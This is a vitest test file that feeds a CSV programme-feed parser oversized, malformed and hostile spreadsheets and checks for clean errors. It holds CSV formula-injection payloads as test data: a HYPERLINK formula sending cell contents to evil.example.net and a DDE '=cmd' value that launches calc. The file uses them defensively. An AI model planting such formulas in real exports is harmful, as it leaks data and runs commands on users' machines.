/**
 * Hostile and broken spreadsheets: each ends in a parsed programme or a
 * FeedError that names the place, never an exception of another kind, and
 * giants are refused by the bounds instead of being built (the feed size cap
 * of 20 MB is parseFeed's; these stay under it).
 */
import { describe, expect, it } from 'vitest';
import { MAX_FEED_BYTES, parseFeed } from '../../../core/feeds';
import { feedFailure } from './feed-failure';

const options = { defaultTimeZone: 'Europe/Vienna' };
const HEADER = 'Title,Date,Start,End\n';
const GOOD_ROW = 'Fine,2027-02-03,10:00,11:00\n';

describe('hostile CSV', () => {
  it('leaves out a row with a 1M-character field and reads the rest', () => {
    const { programme, warnings } = parseFeed(`${HEADER}"${'x'.repeat(1_000_000)}",2027-02-03,09:00,10:00\n${GOOD_ROW}`, options);
    expect(programme.sessions.map((s) => s.title)).toEqual(['Fine']);
    expect(warnings).toContainEqual({ message: 'Title: 1,000,000 characters; at most 100,000 are read; row left out', at: 'row 2' });
  });

  it('refuses a 90,000-character time zone cell quoting only its start', () => {
    const { warnings } = parseFeed(`Title,Date,Start,Time zone\nLong zone,2027-02-03,10:00,Europe/${'x'.repeat(90_000)}\nFine,2027-02-03,10:00,Europe/Vienna\n`, options);
    expect(warnings).toContainEqual({ message: `Time zone: 'Europe/${'x'.repeat(33)}' is not a time zone; use a name such as Europe/Vienna; row left out`, at: 'row 2' });
  });

  it('refuses a header of 100,000 (or 1,000) columns, and a line with 100,000 separators', () => {
    const tooMany = 'more than 10,000 "," separators on one line; a programme has at most 200 columns';
    expect(feedFailure(`Title,Date,Start${',x'.repeat(100_000)}\n${GOOD_ROW}`).message).toBe(`${tooMany} (at line 1)`);
    expect(feedFailure(`${HEADER}${GOOD_ROW}Wide,2027-02-03,10:00${',x'.repeat(100_000)}\n`).message).toBe(`${tooMany} (at line 3)`);
    expect(feedFailure(`Title,Date,Start${',x'.repeat(1_000)}\n${GOOD_ROW}`).message).toBe('the header row has 1,003 columns; at most 200 are read (at row 1)');
  });

  it('refuses a file of only separators, and rows of only separators beyond the row cap', () => {
    expect(feedFailure(',,,,,\n,,,,,\n'.repeat(1000)).message).toMatch(/^not a programme feed this app can read/);
    expect(feedFailure(`${HEADER}${',,,\n'.repeat(60_000)}`).message).toBe('more than 50,000 rows (at row 50001)');
    expect(feedFailure(`${HEADER}${'\n'.repeat(MAX_FEED_BYTES - HEADER.length)}`).message).toBe('more than 50,000 rows (at row 50001)');
  });

  it('names the row of a quote that never closes instead of swallowing the rest of the file', () => {
    expect(feedFailure(`${HEADER}${GOOD_ROW}"Unclosed,2027-02-03,10:00,11:00\n${GOOD_ROW.repeat(3)}`).message).toBe(
      'a quoted field here never closes (a " is missing or stray), so the rows after it cannot be read (at row 3)',
    );
    expect(feedFailure(`${HEADER}${'"'.repeat(100_001)}`).message).toMatch(/never closes .*\(at row 2\)$/);
  });

  it('reads NULs as text and refuses them where a date or time is due', () => {
    const { programme, warnings } = parseFeed(`${HEADER}Nul\u0000title,2027-02-03,10:00,11:00\nNul date,2027-02-03\u0000,10:00,11:00\n`, options);
    expect(programme.sessions.map((s) => s.title)).toEqual(['Nul\u0000title']);
    expect(warnings).toContainEqual({ message: "Date: '2027-02-03\u0000' is not a date; use 2027-02-03; row left out", at: 'row 3' });
  });

  it('keeps spreadsheet formulas as plain text: no link, no room link, nothing evaluated', () => {
    const formula = '=HYPERLINK("https://evil.example.net/steal?c="&A1,"Click me")';
    const csv = `Title,Date,Start,Room,Room link,Abstract\n"${formula.replace(/"/g, '""')}",2027-02-03,10:00,"=1+1","=HYPERLINK(""https://evil.example.net"")","@SUM(A1:A9)"\n`;
    const [session] = parseFeed(csv, options).programme.sessions;
    expect(session).toMatchObject({ title: formula, room: { name: '=1+1', url: null }, abstract: '@SUM(A1:A9)', links: [] });
  });

  it('reads arbitrary junk after a header as rows or FeedErrors only', () => {
    const junk = ['"', '""', '"a""', '\r', '\r\n', ';', '\t', '\u0000', '\ufeff', 'sep=;', '=cmd|" /C calc"!A0', '2027-02-03', '25:99'];
    for (let i = 0; i < 400; i++) {
      const row = Array.from({ length: 1 + (i % 7) }, (_, j) => junk[(i * 7 + j * 3) % junk.length]).join(i % 2 ? ',' : '');
      try {
        parseFeed(`${HEADER}${GOOD_ROW}${row}\n${GOOD_ROW}`, options);
      } catch (error) {
        expect(error).toMatchObject({ name: 'FeedError' });
      }
    }
  });
});
